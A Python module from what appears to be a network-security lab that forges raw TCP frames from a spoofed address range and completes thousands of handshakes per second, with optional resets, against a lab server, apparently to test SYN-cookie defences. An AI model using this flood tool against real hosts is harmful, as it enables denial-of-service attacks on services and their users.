"""Handshakes in bulk by an attacker who has his address: each with the cookie that he was sent."""

import collections
import contextlib
import dataclasses
import ipaddress
import socket
import struct
import time

from wire_lab.background import Background
from wire_lab.forgery import ACK, RST, SYN, checksum_of, word_sum

ISN = 1000
SOURCE = "198.18.7.7/32"  # of another /24 than the hosts of the lab
COUNT = 17_500
FIRST_PORT = 1024
ETHERNET, IP, TCP = 14, 20, 20
ETHERTYPE_IPV4 = 0x0800
# SYNs that may be unanswered at the same time: a receive ring holds them.
BATCH = 64
ANSWER_TIMEOUT_S = 0.2
KEPT = 1024  # of the handshakes that are done


@dataclasses.dataclass(frozen=True)
class Pace:
    """So many in so many seconds, or as long as a busy core makes it."""

    count: int = COUNT
    seconds: float = 1.2


class Handshakes(Background):
    """`with Handshakes(lab, address, aborts=True) as attack`: a thread opens connections to
    (host, port) from the addresses of the network `sources` in turn, each from a port of its own.
    `aborts`: a RST follows each ACK. It ends with the block, or by itself."""

    def __init__(self, lab, address, aborts, sources=SOURCE, pace=Pace()):
        super().__init__()
        self._frames = Frames(lab, sources, address)
        self._aborts = aborts
        self._pace = pace
        self._packets = own_packets(lab.attacker, sources)
        self.opened = 0
        self.last = collections.deque(maxlen=KEPT)  # (source, port, ISN of the SYN-ACK)
        self.seconds = 0.0

    def __exit__(self, *error):
        try:
            super().__exit__(*error)
        finally:
            self._packets.close()

    def __str__(self):
        return (f"{self.opened} of {self._pace.count} handshakes in {self.seconds:.1f} s, "
                f"{self.opened / max(self.seconds, 0.001):.0f} per second")

    def work(self):
        started = time.monotonic()
        for first in range(0, self._pace.count, BATCH):
            due = started + self._pace.seconds * first / self._pace.count
            if self.over.wait(max(0, due - time.monotonic())):
                return
            self._open(range(first, min(first + BATCH, self._pace.count)))
            self.seconds = time.monotonic() - started

    def _open(self, numbers):
        for number in numbers:
            source, port = self._frames.endpoint(number)
            self._packets.send(self._frames.make(SYN, (source, port), ISN))
        with contextlib.suppress(TimeoutError):
            for _ in numbers:
                self._answer()

    def _answer(self):
        """The end of the handshake that the next SYN-ACK begins."""
        syn_ack = self._frames.parse(self._packets.recv(2048))
        while not syn_ack:
            syn_ack = self._frames.parse(self._packets.recv(2048))
        source, port, isn = syn_ack
        self._packets.send(self._frames.make(ACK, (source, port), ISN + 1, isn + 1))
        if self._aborts:
            self._packets.send(self._frames.make(RST, (source, port), ISN + 1))
        self.opened += 1
        self.last.append(syn_ack)


def take_addresses(space, network):
    """The host answers for all addresses of the network, without having each of them."""
    space.run("ip", "route", "replace", "local", network, "dev", "lo")


def own_packets(space, network):
    """A socket that gets what is for the network. The kernel answers ARP in its name and nothing
    else: it would reset connections that it does not know."""
    take_addresses(space, network)
    space.run("nft", f"""table ip handshakes {{
        chain unknown {{
            type filter hook input priority 0;
            ip daddr {network} drop
        }}
    }}""")
    packets = space.socket(socket.AF_PACKET, socket.SOCK_RAW)
    packets.bind(("eth0", ETHERTYPE_IPV4))
    packets.settimeout(ANSWER_TIMEOUT_S)
    return packets


class Frames:
    """Segments without options from the addresses of a network to `address`, (host, port)."""

    def __init__(self, lab, network, address):
        macs = lab.attacker.mac(), lab.server.mac()
        self._sources = [host.packed for host in ipaddress.ip_network(network)]
        self._of = {source: _Template(macs, source, address) for source in self._sources}

    def endpoint(self, number):
        """(source, port); another one for each number."""
        turn, index = divmod(number, len(self._sources))
        return self._sources[index], FIRST_PORT + turn % (2**16 - FIRST_PORT)

    def make(self, flags, endpoint, seq, ack=0):
        source, port = endpoint
        return self._of[source].make(flags, port, seq, ack)

    def parse(self, frame):
        """(source, port, ISN) of a SYN-ACK for us."""
        source = frame[ETHERNET + IP - 4:ETHERNET + IP]
        template = self._of.get(source)
        answer = template and template.parse(frame)
        return answer and (source, *answer)


class _Template:
    """Of a frame only ports, numbers and checksums change."""

    def __init__(self, macs, source, address):
        addresses = source + socket.inet_aton(address[0])
        own_mac, next_hop = macs
        self._port = address[1]
        self._incoming = addresses[4:] + addresses[:4] + struct.pack("!H", address[1])
        header = struct.pack("!BBHHHBBH", 0x45, 0, IP + TCP, 0, 0x4000, 64, socket.IPPROTO_TCP, 0)
        checksum = checksum_of(word_sum(header + addresses))
        macs = bytes.fromhex((next_hop + own_mac).replace(":", ""))
        self._before = (macs + struct.pack("!H", ETHERTYPE_IPV4) +
                        header[:-2] + struct.pack("!H", checksum) + addresses)
        self._sum = word_sum(addresses) + socket.IPPROTO_TCP + TCP

    def make(self, flags, port, seq, ack=0):
        ack %= 2**32
        offset_flags = (TCP // 4) << 12 | flags
        total = self._sum + port + self._port + seq + (ack >> 16) + (ack & 0xffff) + offset_flags
        window = 0xffff  # adds nothing to a sum of ones' complements
        return self._before + struct.pack("!HHIIHHHH", port, self._port, seq, ack, offset_flags,
                                          window, checksum_of(total), 0)

    def parse(self, frame):
        """(port, ISN) of a SYN-ACK for us."""
        ports = ETHERNET + IP
        if frame[ports - 8:ports + 2] != self._incoming or frame[ports + 13] != SYN | ACK:
            return None
        return struct.unpack_from("!HI", frame, ports + 2)
